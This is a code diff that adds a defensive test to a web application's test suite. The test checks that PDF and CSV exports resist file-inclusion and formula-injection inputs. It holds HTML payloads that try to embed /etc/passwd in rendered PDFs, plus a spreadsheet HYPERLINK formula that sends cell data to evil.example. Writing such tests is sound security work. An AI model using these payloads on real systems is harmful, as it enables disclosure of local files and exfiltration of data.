@@ -10,6 +10,7 @@ import html
 import pathlib
 import re
 import sqlite3
+import subprocess
 import sys
 import urllib.parse
 
@@ -214,6 +215,32 @@ def paths(desk, judge, anna):
     judge(not after, "nothing is left beside the book", after)
 
 
+def papers(desk, judge, anna):
+    """A file of this machine does not get into a pdf, nor a formula into a spreadsheet."""
+    evil = ('"><img src="file:///etc/passwd"><link rel="attachment" href="file:///etc/passwd">'
+            '<style>@import "file:///etc/passwd";</style><object data="file:///etc/passwd">')
+    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
+    for field, text in (("why", evil), ("payee", formula)):
+        form = anna.get("/account").hidden("form-token")
+        page = anna.post("/expense/submit/SSR2", {**SUBMIT, field: text, "form-token": form})
+        judge(page.status == 200, f"{text[:20]} is a text like any other", page.status)
+    desk.run("finance", "review", "set", "SSR2", "--overview", evil)
+    seen = False
+    for number, path in enumerate(("/expense/list/SSR2", "/register/SSR2", "/factsheet/show/SSR2")):
+        page = anna.get(path + "?format=pdf")
+        pdf = pathlib.Path(desk.folder.name, f"evil-{number}.pdf")
+        pdf.write_bytes(page.bytes)
+        told = subprocess.run(["pdfdetach", "-list", pdf], capture_output=True, text=True, check=True)
+        text = subprocess.run(["pdftotext", pdf, "-"], capture_output=True, text=True, check=True)
+        judge("passwd" not in told.stdout and "root:" not in text.stdout and b"root:" not in page.bytes,
+              f"no file of this machine is in {path} as pdf", told.stdout)
+        pdf.unlink()
+        rows = anna.get(path + "?format=csv").text
+        seen = seen or "HYPERLINK" in rows
+        judge(not re.search(r"(^|,)\"?[=+@]", rows, re.M), f"no formula is in {path} as csv", rows)
+    judge(seen, "though its text is")
+
+
 def main():
     judge = Judge()
     with Desk(sys.argv[1]) as desk:
@@ -228,6 +255,7 @@ def main():
         elsewhere(desk, judge, anna)
         sessions(desk, judge, anna, token)
         paths(desk, judge, anna)
+        papers(desk, judge, anna)
         acts(desk, judge, anna, verbs)
         reports(judge, anna, verbs)
         said = desk.run("finance", "verify").stdout
